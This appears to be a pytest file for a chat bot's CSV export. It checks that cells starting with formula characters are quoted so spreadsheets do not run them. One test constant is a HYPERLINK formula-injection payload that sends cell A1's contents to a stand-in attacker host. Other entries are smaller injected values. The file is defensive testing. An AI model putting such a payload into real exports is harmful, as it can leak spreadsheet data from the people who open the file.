"""CSV exports neutralise cells that a spreadsheet would run as a formula (issue #13, point 8)."""

from __future__ import annotations

import asyncio
import csv
from pathlib import Path

import pytest

from bot.cli.main import main
from bot.csvsafe import safe_cell
from bot.services.stats import build_report, export_csv
from bot.storage.cases import CaseRepository
from bot.storage.db import Database
from bot.storage.growth import GrowthRepository
from bot.timeutil import epoch_now
from tests.builders import add_supergroup, open_pile_on_case, opened_db
from tests.unit.test_growth_report import CHAT, DAY, UNTIL, seed_month

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_starts_are_quoted(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_other_cells_are_kept() -> None:
    assert safe_cell("Coffee lovers") == "Coffee lovers"
    assert safe_cell(-1001234567890) == -1001234567890  # a number stays a number
    assert safe_cell(-0.5) == -0.5
    assert safe_cell("") == ""


async def test_stats_csv_neutralises_titles_and_campaign_names(tmp_path: Path) -> None:
    db = Database(tmp_path / "report.db")
    await db.open()
    try:
        await seed_month(db)
        growth = GrowthRepository(db)
        await growth.add_campaign(CHAT, "-2+3 spring", "https://t.me/+evil", created_by=1, at=UNTIL - 60 * DAY)
        await growth.record_join(
            CHAT, 99_999, UNTIL - DAY, source="chat_member", invite_link="https://t.me/+evil", via="link"
        )
        report = await build_report(db, CHAT, since=UNTIL - 7 * DAY, until=UNTIL, title=FORMULA)
    finally:
        await db.close()
    files = {p.name: p for p in export_csv(report, tmp_path / "csv")}
    with files["summary.csv"].open(encoding="utf-8") as handle:
        summary = {row["metric"]: row["value"] for row in csv.DictReader(handle)}
    assert summary["title"] == "'" + FORMULA
    assert summary["chat_id"] == str(CHAT)  # the negative id is a number, not quoted
    with files["campaigns.csv"].open(encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'-2+3 spring" in cells
    for path in files.values():
        with path.open(encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
                    assert not cell.startswith("-") or cell.lstrip("-").replace(".", "", 1).isdigit(), cell


def test_cases_csv_neutralises_names(tmp_path: Path) -> None:
    async def seed() -> None:
        async with opened_db(tmp_path / "steward.db") as db:
            await add_supergroup(db, CHAT, FORMULA)
            cases = CaseRepository(db)
            now = epoch_now()
            await open_pile_on_case(cases, CHAT, "m:1", message_id=1, at=now - 600)
            await cases.answer(1, 500, "@SUM(A1:A9)", now - 300, note=None)

    asyncio.run(seed())
    config = tmp_path / "steward.toml"
    config.write_text(f'[database]\npath = "{tmp_path / "steward.db"}"\n', encoding="utf-8")
    target = tmp_path / "cases.csv"
    assert main(["cases", "--config", str(config), "--all", "--csv", str(target)]) == 0
    with target.open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["answered_by"] == "'@SUM(A1:A9)"
    assert all(not str(v).startswith(("=", "+", "@")) for row in rows for v in row.values())
